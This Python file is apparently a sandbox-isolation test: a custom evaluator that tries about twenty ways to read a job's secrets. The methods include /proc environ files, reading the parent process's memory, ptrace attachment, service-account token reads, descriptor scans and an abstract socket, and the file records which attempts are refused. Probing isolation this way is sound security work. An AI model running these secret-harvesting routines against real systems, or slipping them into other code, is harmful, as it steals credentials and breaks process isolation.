# ruff: noqa: PTH123, PTH207, PTH208, PTH211, UP031
"""A custom evaluator that looks for the job's secrets wherever one could look. Run as source text, never imported."""

import ctypes
import gc
import glob
import json
import os
import resource
import signal
import socket
import subprocess
import sys


def attempts(address, size, token_file, parent):
    def read(path):
        with open(path, "rb") as file:
            return file.read(1 << 20)

    def all_environments():
        return b"".join(read(path) for path in glob.glob("/proc/[0-9]*/environ"))

    def guessed_environments():
        return b"".join(read(f"/proc/{pid}/environ") for pid in (parent, 1))

    def parent_memory():
        with open(f"/proc/{parent}/mem", "rb", buffering=0) as file:
            file.seek(address)
            return file.read(size)

    def vm_read():
        class Vector(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]

        buffer = ctypes.create_string_buffer(size)
        local = Vector(ctypes.cast(buffer, ctypes.c_void_p), size)
        remote = Vector(address, size)
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.process_vm_readv(parent, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) < 0:
            raise OSError(ctypes.get_errno(), "process_vm_readv")
        return buffer.raw

    def attach():
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.ptrace(0x4206, parent, 0, 0) < 0:  # PTRACE_SEIZE
            raise OSError(ctypes.get_errno(), "ptrace")
        libc.ptrace(0x4207, parent, 0, 0)  # PTRACE_INTERRUPT: only a stopped process can be let go again
        os.waitpid(parent, 0x40000000)
        libc.ptrace(17, parent, 0, 0)  # PTRACE_DETACH
        return b"attached"

    def regained_capabilities():
        os.chroot("/")  # changes nothing, but only who has the capability may
        return b"chroot"

    def descriptors():
        found = b""
        for number in range(3, 256):
            try:
                os.set_blocking(number, False)
                found += os.pread(number, 1 << 16, 0)
            except OSError:
                continue
        return found

    def signalled():
        os.kill(parent, signal.SIGCONT)
        return b"signalled"

    def started_program():
        return subprocess.check_output(["cat", token_file])

    def linked():
        os.symlink(token_file, token_file + ".link")
        return read(token_file + ".link")

    def written():
        with open(token_file + ".written", "wb") as file:
            file.write(b"x")
        return b"written"

    def memory():
        return repr([entry for entry in gc.get_objects() if isinstance(entry, (dict, list))]).encode()

    def core_file():
        resource.setrlimit(resource.RLIMIT_CORE, (1 << 20, 1 << 20))
        return b"core files"

    def abstract_socket():
        with socket.socket(socket.AF_UNIX) as channel:
            channel.settimeout(5)
            channel.connect("\0amp-abstract-%d" % parent)
            return channel.recv(1 << 10)

    return {
        "environment": lambda: json.dumps(dict(os.environ)).encode(),
        "arguments": lambda: repr((sys.argv, sys.orig_argv)).encode(),
        "own memory": memory,
        "open descriptors": descriptors,
        "parent's environment": lambda: read(f"/proc/{parent}/environ"),
        "first process's environment": lambda: read("/proc/1/environ"),
        "environments by number": guessed_environments,
        "all environments": all_environments,
        "own environment file": lambda: read("/proc/self/environ"),
        "parent's memory": parent_memory,
        "parent's memory by system call": vm_read,
        "parent's descriptors": lambda: repr(os.listdir(f"/proc/{parent}/fd")).encode(),
        "debugging the parent": attach,
        "service account token": lambda: read(token_file),
        "token by a program": started_program,
        "token by a link": linked,
        "capabilities": regained_capabilities,
        "signalling the parent": signalled,
        "writing a file": written,
        "core files": core_file,
        "an abstract socket": abstract_socket,
    }


def attack(trace, address: int = 0, size: int = 0, token_file: str = "", parent: int = 0) -> "EvalResult":  # noqa: F821
    found = {}
    for name, attempt in attempts(address, size, token_file, parent or os.getppid()).items():
        try:
            found[name] = attempt().decode("utf-8", "replace")
        except BaseException as error:
            found[name] = f"refused: {error!r}"
    return EvalResult(1.0, json.dumps(found))  # noqa: F821
